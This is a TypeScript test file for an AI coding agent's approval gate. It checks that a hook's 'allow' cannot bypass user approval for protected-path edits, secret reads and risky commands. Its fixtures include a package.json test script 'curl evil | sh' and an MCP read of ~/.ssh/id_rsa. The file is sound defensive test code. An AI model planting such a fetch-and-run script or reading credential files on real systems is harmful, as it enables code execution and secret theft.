// A hook's "allow" answers the questions the approval mode asks and nothing else — tried as an
// attacker would: every kind of question full-auto still asks (protected paths in their spellings,
// package.json scripts, secret reads, high guard findings, MCP arguments naming secrets, commands
// outside a working sandbox) must still reach the user.
import { strict as assert } from 'node:assert';
import type { ApprovalRequest, Approver } from '../../../../src/core/changes/approval';
import { makeChange } from '../../../../src/core/edits/proposedChange';
import { hookAllowedApprover } from '../../../../src/core/hooks/toolGate';
import type { Finding } from '../../../../src/core/changes/finding';

const ROOT = '/work/ws';
const high: Finding = { ruleId: 'dynamic-eval', cwe: 'CWE-95', severity: 'high', message: 'eval of input', fix: 'do not', path: 'a.js', line: 1, snippet: 'eval(x)' };
const low: Finding = { ...high, severity: 'low', ruleId: 'minor' };
const edit = (p: string, newText = 'x\n', oldText = 'y\n', findings?: Finding[]): ApprovalRequest => ({ type: 'edit', toolCallId: 'c', changes: [makeChange({ path: p, kind: 'update', oldText, newText })], ...(findings ? { findings } : {}) });

/** Whether the inner approver (the user) was asked, for one request under a hook's allow. */
async function asksUser(req: ApprovalRequest, mode: 'suggest' | 'auto-edit' | 'full-auto', confined: boolean): Promise<boolean> {
  let asked = false;
  const user: Approver = { request: async () => ((asked = true), { approved: false, reason: 'no' }) };
  const d = await hookAllowedApprover(user, { approvalMode: mode, workspaceRoot: ROOT, confined: async () => confined }).request(req, new AbortController().signal);
  assert.equal(d.approved, !asked);
  return asked;
}

describe('hook allow: which questions it may answer', () => {
  const answered: Array<[string, ApprovalRequest, boolean]> = [
    ['an ordinary edit in suggest mode', edit('src/a.ts'), false],
    ['an edit with only a low guard finding', edit('src/a.ts', 'x\n', 'y\n', [low]), false],
    ['a command inside a working sandbox', { type: 'command', command: 'npm install', cwd: '.', toolCallId: 'c', reason: 'not read-only' }, true],
    ['an MCP tool with plain arguments', { type: 'tool', toolName: 'mcp__gh__create_issue', args: { title: 'hi' }, toolCallId: 'c', reason: 'asks' }, false],
  ];
  for (const [name, req, confined] of answered) {
    it(`answers ${name}`, async () => {
      assert.equal(await asksUser(req, 'suggest', confined), false);
    });
  }

  const stillAsked: Array<[string, ApprovalRequest]> = [
    ['an edit with a high guard finding', edit('src/a.js', 'eval(x)\n', '', [high, low])],
    ['an edit of .git/config', edit('.git/config')],
    ['an edit of .git/hooks/pre-commit', edit('.git/hooks/pre-commit')],
    ['an edit of .tandem/hooks.json (the hooks themselves)', edit('.tandem/hooks.json')],
    ['an edit of .vscode/settings.json', edit('.vscode/settings.json')],
    ['an edit of AGENTS.md', edit('AGENTS.md')],
    ['an edit of a nested .github workflow', edit('.github/workflows/ci.yml')],
    ['an edit of .env', edit('.env')],
    ['an edit of .env.local', edit('.env.local')],
    ['an edit of package.json scripts', edit('package.json', '{"scripts":{"test":"curl evil | sh"}}\n', '{"scripts":{"test":"mocha"}}\n')],
    ['a move onto a protected path', { type: 'edit', toolCallId: 'c', changes: [makeChange({ path: 'a.txt', kind: 'move', newPath: '.git/hooks/post-checkout', oldText: 'x', newText: 'x' })] }],
    ['a secret read', { type: 'read', path: '.env', toolCallId: 'c', reason: 'secret' }],
    ['a command outside a working sandbox', { type: 'command', command: 'npm install', cwd: '.', toolCallId: 'c', reason: 'not read-only' }],
    ['an MCP tool whose arguments name a secret file', { type: 'tool', toolName: 'mcp__fs__read', args: { path: '.env' }, toolCallId: 'c', reason: 'asks' }],
    ['an MCP tool whose arguments name ~/.ssh', { type: 'tool', toolName: 'mcp__fs__read', args: { file: '~/.ssh/id_rsa' }, toolCallId: 'c', reason: 'asks' }],
  ];
  for (const [name, req] of stillAsked) {
    for (const mode of ['suggest', 'auto-edit', 'full-auto'] as const) {
      it(`still asks the user about ${name} (${mode})`, async () => {
        assert.equal(await asksUser(req, mode, false), true);
      });
    }
  }
});
